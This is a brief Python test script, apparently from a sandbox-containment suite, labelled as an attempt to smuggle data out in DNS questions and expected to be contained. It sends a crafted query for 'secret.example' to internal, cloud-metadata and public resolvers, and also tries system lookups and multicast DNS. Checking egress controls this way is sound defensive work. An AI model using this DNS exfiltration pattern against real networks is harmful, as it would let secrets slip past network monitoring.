# attempt: smuggle data out in questions to a name server
# expect: contained
import socket

from attempt import attempt, reach

QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x07example\x00\x00\x01\x00\x01"


def resolve(name):
    """Through the C library."""
    return socket.getaddrinfo(name, 80)


SERVERS = ["127.0.0.1", "127.0.0.53", "127.0.0.11", "10.0.2.3", "192.0.2.53", "169.254.169.253", "1.1.1.1", "8.8.8.8"]
attempt(
    *[lambda at=at: reach((at, 53), kind=socket.SOCK_DGRAM, say=QUESTION) for at in SERVERS],
    *[lambda at=at: reach((at, 53), say=len(QUESTION).to_bytes(2, "big") + QUESTION) for at in SERVERS],
    lambda: resolve("secret.example"),
    lambda: socket.gethostbyaddr("192.0.2.1"),
    lambda: reach(("224.0.0.251", 5353), kind=socket.SOCK_DGRAM, say=QUESTION),
)
